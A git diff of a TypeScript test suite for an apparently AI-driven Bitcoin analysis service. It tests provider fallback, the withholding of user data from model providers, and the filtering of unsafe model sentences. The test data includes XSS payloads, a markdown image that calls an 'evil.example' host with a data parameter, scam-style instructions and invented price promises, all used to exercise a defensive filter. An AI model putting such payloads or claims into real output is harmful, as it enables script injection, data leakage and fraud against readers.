@@ -1,24 +1,15 @@
-import { beforeAll, beforeEach, describe, expect, it, vi } from "vitest";
+import { beforeEach, describe, expect, it, vi } from "vitest";
 import { chatReplySchema } from "../../../shared/analysis.ts";
 import { SYSTEM } from "../../features/analysis/writers/prompt/prompt.ts";
-import {
-  askWith,
-  loadModels,
-  openAiStreet,
-  postJson,
-  QUICK,
-  requestWith,
-  shownBy,
-  withAi,
-} from "./ai-street.ts";
+import { openPerson } from "../auth/person.ts";
+import { askWith, openAiStreet, postJson, QUICK, requestWith, shownBy, withAi } from "./ai-street.ts";
 import type { Manner } from "./manner.ts";
-import { type Asked, type Said, sayHonestly, toJson } from "./wire.ts";
+import { type Asked, sayHonestly, toJson } from "./wire.ts";
 
 const QUESTION = "Analyze Bitcoin";
 const [FIRST, SECOND, THIRD] = ["anthropic:claude-haiku-5-5", "openai:gpt-6-luna", "builtin"];
 
 let logged: string[];
-beforeAll(loadModels, 60_000);
 beforeEach(() => {
   logged = [];
   vi.spyOn(console, "log").mockImplementation((line) => void logged.push(String(line)));
@@ -32,7 +23,7 @@ describe("an answer is worded", () => {
     const answer = chatReplySchema.parse(await reply.json());
     await finish();
     expect(answer.engine).toBe(FIRST);
-    expect(answer.response).toMatch(/^\*\*(?:Buy|Hold|Sell) Bitcoin\.\*\*/);
+    expect(answer.response).toMatch(/^Bitcoin trades at [^\n]+\*\*(?:Buy|Hold|Sell)\*\*, with [^\n]+\n\n/);
     expect(answer.response).toContain("**Where it stands.** Bitcoin trades at $");
     expect(answer.response).toMatch(/\*All prices here are simulated, not real market data\.\*$/);
     const [asked] = street.asked;
@@ -41,6 +32,29 @@ describe("an answer is worded", () => {
     expect(asked?.body).toMatchObject({ model: "claude-haiku-5-5", stream: true, max_tokens: 1_600 });
     expect(asked?.body).not.toHaveProperty("tools");
     expect(street.headers[0]?.get("x-api-key")).toBe("sk-ant-secret");
+  });
+
+  it("by models that are sent the question and the facts, and nothing of whoever asks", async () => {
+    const street = openAiStreet({ anthropic: {}, openai: {} });
+    const person = await openPerson();
+    const { key } = await person.makeKey();
+    const cookie = [...person.browser.jar].map((pair) => pair.join("=")).join("; ");
+    const headers = {
+      "X-API-Key": key,
+      Cookie: cookie,
+      "CF-Connecting-IP": "203.0.113.77",
+      "CF-IPCountry": "DE",
+    };
+    for (const path of ["/api/v1/analyze", "/api/chat"])
+      await (await requestWith(withAi(), path, postJson({ message: QUESTION }, headers))).finish();
+    expect(street.asked).toHaveLength(2);
+    const sent = JSON.stringify([
+      street.asked.map(({ body }) => body),
+      street.headers.map((one) => [...one]),
+    ]);
+    expect(sent).toContain(QUESTION);
+    for (const secret of [person.email, person.id, key, ...person.browser.jar.values(), "203.0.113.77"])
+      expect(sent).not.toContain(secret);
   });
 
   it("by the second when it is the only one with a key", async () => {
@@ -109,16 +123,8 @@ describe("an answer is worded", () => {
   });
 });
 
-const bend = (change: (text: string, i: number) => string) => (asked: Asked) =>
-  toJson(sayHonestly(asked).map((one, i) => ({ ...one, text: change(one.text, i) })));
-const insert =
-  (text: string, facts = ["f1"]) =>
-  (asked: Asked) =>
-    toJson([
-      ...sayHonestly(asked).slice(0, 3),
-      { heading: null, text, facts },
-      ...sayHonestly(asked).slice(3),
-    ]);
+const insert = (text: string) => (asked: Asked) =>
+  toJson([...sayHonestly(asked).slice(0, 3), { heading: null, text }, ...sayHonestly(asked).slice(3)]);
 
 const FAULTS: [name: string, manner: Manner, outcome: string | RegExp][] = [
   ["F-183: is down", { status: 500 }, "status 500"],
@@ -139,23 +145,32 @@ const FAULTS: [name: string, manner: Manner, outcome: string | RegExp][] = [
   ["F-187: sends nothing", { raw: "" }, "cut"],
   ["F-187: answers in no JSON", { text: () => "Bitcoin looks fine to me, all in all." }, "schema"],
   ["F-187: answers in another shape", { text: () => '{"elements":[{"words":"hm"}]}' }, "schema"],
-  ["F-187: gives an empty list", { text: () => '{"elements":[]}' }, "refused: empty"],
-  ["F-187: gives one sentence", { say: (asked) => sayHonestly(asked).slice(0, 1) }, "refused: empty"],
+  ["F-187: gives an empty list", { text: () => '{"elements":[]}' }, "refused: too little stands"],
+  [
+    "F-187: gives one sentence",
+    { say: (asked) => sayHonestly(asked).slice(0, 1) },
+    "refused: too little stands",
+  ],
   ["F-187: is cut by its token limit", { end: "too_long" }, "too_long"],
   ["declines by its stop reason", { end: "refusal" }, "refused"],
   [
-    "declines in words",
-    { text: insert("I'm sorry, but I cannot help with that request.") },
-    "refused: refusal",
-  ],
-  [
     "F-187: answers in another language",
     {
-      text: bend(
-        () => "El precio de Bitcoin muestra una clara fortaleza y mucha estabilidad en general [f1].",
-      ),
+      say: (asked) =>
+        sayHonestly(asked).map(() => ({
+          heading: null,
+          text: "El precio de Bitcoin muestra una clara fortaleza y mucha estabilidad en general {f1}.",
+        })),
     },
-    "refused: language",
+    "refused: too little stands",
+  ],
+  [
+    "F-159: writes every figure itself",
+    {
+      say: (asked) =>
+        sayHonestly(asked).map((said) => ({ ...said, text: said.text.replace(/\{f\d+\}/, "$64,000") })),
+    },
+    "refused: too little stands",
   ],
   ["F-161: never ends", { endless: true }, /^(timeout|too_long|schema)/],
   [
@@ -163,92 +178,47 @@ const FAULTS: [name: string, manner: Manner, outcome: string | RegExp][] = [
     { text: () => `{"elements":[{"heading":null,"text":"${"Bitcoin ".repeat(200_000)}` },
     /^(timeout|too_long|schema)/,
   ],
-  [
-    "F-161: writes too much",
-    { say: (asked) => Array.from({ length: 40 }, (_, i) => sayHonestly(asked)[i % 6] as Said) },
-    "refused: repeated",
-  ],
-  [
-    "F-159: bends a figure",
-    { text: bend((text) => text.replace(/\d(?=[^\d]*\[f)/, "9")) },
-    "refused: ungrounded",
-  ],
-  [
-    "F-159: invents a price",
-    { text: insert("A target of $250,000 [f1] is in reach by then.") },
-    "refused: ungrounded",
-  ],
-  [
-    "F-159: promises",
-    { text: insert("From this level a gain is guaranteed for every holder.") },
-    "refused: promise",
-  ],
-  [
-    "F-159: foretells",
-    { text: insert("The price will soon rise beyond its old range again.") },
-    "refused: promise",
-  ],
-  [
-    "advises an action",
-    {
-      text: (asked) =>
-        insert(asked.calls[0]?.action === "Buy" ? "It is best to sell here." : "It is a strong buy here.")(
-          asked,
-        ),
-    },
-    "refused: advice",
-  ],
-  [
-    "cites a fact that is none",
-    { text: insert("The trend of Bitcoin is sound and steady.", ["f999"]) },
-    "refused: ungrounded",
-  ],
-  [
-    "cites a source that is none",
-    { text: insert("The trend of Bitcoin is sound.", ["Bloomberg"]) },
-    "refused: unknown source",
-  ],
-  [
-    "tells news that nobody holds",
-    { text: insert("The price moved after the SEC approved an ETF.") },
-    "refused: unknown name",
-  ],
-  [
-    "tells hearsay",
-    { text: insert("Demand is strong, analysts say, and the trend is up.") },
-    "refused: hearsay",
-  ],
-  [
-    "cites nothing",
-    { text: insert("Momentum is fading, with an RSI of 41.2 as of now.", []) },
-    "refused: nothing cited",
-  ],
-  [
-    "F-155: writes HTML",
-    { text: insert("The trend <img src=x onerror=alert(1)> is sound.") },
-    "refused: markup",
-  ],
-  [
-    "F-156: writes an image",
-    { text: insert("The trend ![x](https://evil.example/?d=1) is sound.") },
-    "refused: markup",
-  ],
-  [
-    "F-156: writes a link",
-    { text: insert("The trend is sound, see www.evil.example for more.") },
-    "refused: markup",
-  ],
-  [
-    "F-160: splits a tag over pieces",
-    { text: insert(`The trend <scr${""}ipt>alert(1)</script> is sound.`) },
-    "refused: markup",
-  ],
-  [
-    "writes invisible characters",
-    { text: insert("The trend\u200B is sound\u202E and steady.") },
-    "refused: ungrounded",
-  ],
 ];
+
+/** Sentences that must not be shown, and do not end the answer around them. */
+const WRONG: [name: string, text: string][] = [
+  ["declines in words", "I'm sorry, but I cannot help with that request {f1}."],
+  ["F-159: writes a figure itself", "A level of $250,000 comes after {f1}."],
+  ["F-159: writes a number in words", "It has doubled twice since, to {f1}."],
+  ["F-159: cites in place of a slot", "Momentum is fading, with an RSI of 41.2 [f1]."],
+  ["F-159: promises", "From {f1} a gain is guaranteed for every holder."],
+  ["F-159: foretells", "The price of {f1} will soon rise beyond its old range again."],
+  ["advises an action", "At {f1} it is a strong buy and the best entry there is."],
+  ["names a fact that is none", "The trend of Bitcoin is sound at {f99999}."],
+  [
+    "asks for a form that the fact does not have",
+    "Since its listing Bitcoin {f1:past} for those who waited.",
+  ],
+  ["tells news that nobody holds", "The price of {f1} moved after the SEC approved an ETF."],
+  ["tells hearsay", "Demand is strong, analysts say, at {f1}."],
+  ["shows nothing to check", "Bitcoin has put on weight over the last month."],
+  ["F-155: writes HTML", "The trend <img src=x onerror=alert(1)> is sound at {f1}."],
+  ["F-156: writes an image", "The trend ![x](https://evil.example/?d=1) is sound at {f1}."],
+  ["F-156: writes a link", "The trend is sound at {f1}, see www.evil.example for more."],
+  ["F-156: writes an address without a scheme", "More on {f1} stands at evil.example.com today."],
+  ["F-156: writes a handle", "The trend at {f1} is told by @evil_calls each day."],
+  ["F-160: splits a tag over pieces", `The trend <scr${""}ipt>alert(1)</script> is sound at {f1}.`],
+  ["gives the reader an order", "Send your coins to the vault before {f1} is gone."],
+  ["F-158: repeats its instructions", "You word market analysis for a reader who checks every figure {f1}."],
+];
+
+describe("a sentence that does not stand", () => {
+  it.each(WRONG)("is left out when it %s, and the answer goes on", async (_, text) => {
+    openAiStreet({ anthropic: { text: insert(text) }, openai: {} });
+    const { reply, pieces } = await askWith(withAi(), QUESTION);
+    expect(reply.engine).toBe(FIRST);
+    expect(shownBy(pieces)).toBe(reply.response);
+    const said = text.split(/\{f\d+(?::\w+)?\}/).find((part) => part.trim().length > 8) ?? text;
+    expect(reply.response).not.toContain(said.trim());
+    expect(reply.response).not.toMatch(/250,000|guarantee|evil|<|SEC|sorry|vault/);
+    expect(reply.response).toContain("The 52-week high of Bitcoin is $");
+  });
+});
 
 describe("a model that fails moves the answer on to the next writer", () => {
   it.each(FAULTS)("%s", async (_, manner, outcome) => {
@@ -262,7 +232,6 @@ describe("a model that fails moves the answer on to the next writer", () => {
     expect(reply.engine).toBe(SECOND);
     expect(shownBy(pieces)).toBe(reply.response);
     expect(street.asked.map(({ wire }) => wire)).toEqual(["anthropic", "openai"]);
-    expect(reply.response).not.toMatch(/250,000|guarantee|evil|<|SEC|sorry/);
     expect(ms).toBeLessThan(4_500);
   });
 
@@ -275,13 +244,10 @@ describe("a model that fails moves the answer on to the next writer", () => {
   });
 
   it("what was shown of a text that then fails is withdrawn once", async () => {
-    openAiStreet({
-      anthropic: { text: insert("A target of $250,000 [f1] is in reach by then.") },
-      openai: {},
-    });
+    openAiStreet({ anthropic: { end: "cut" }, openai: {} });
     const { pieces } = await askWith(withAi(), QUESTION);
     const engines = pieces.map(({ engine }) => engine);
-    expect(engines.slice(0, 3)).toEqual([FIRST, FIRST, FIRST]);
+    expect(engines[0]).toBe(FIRST);
     expect(pieces.flatMap(({ replace }, i) => (replace ? [i] : []))).toEqual([
       engines.indexOf(SECOND as string),
     ]);
@@ -292,13 +258,11 @@ describe("a model that fails moves the answer on to the next writer", () => {
     const { reply, ms } = await askWith(withAi(), QUESTION);
     expect(reply.engine).toBe(THIRD);
     expect(ms).toBeLessThan(8_000);
-  }, 12_000);
+  });
 
   it("F-056: a request whose reader left is broken off at the provider's", async () => {
     const street = openAiStreet({ anthropic: { betweenMs: 30 }, openai: {} });
-    const reader = new AbortController();
-    setTimeout(() => reader.abort(), 200);
-    const { reply, ms } = await askWith(withAi(), QUESTION, { signal: reader.signal });
+    const { reply, ms } = await askWith(withAi(), QUESTION, { leavesAfterMs: 200 });
     expect(street.aborted).toContain("anthropic");
     expect(street.asked).toHaveLength(1);
     expect(reply.engine).toBe(THIRD);
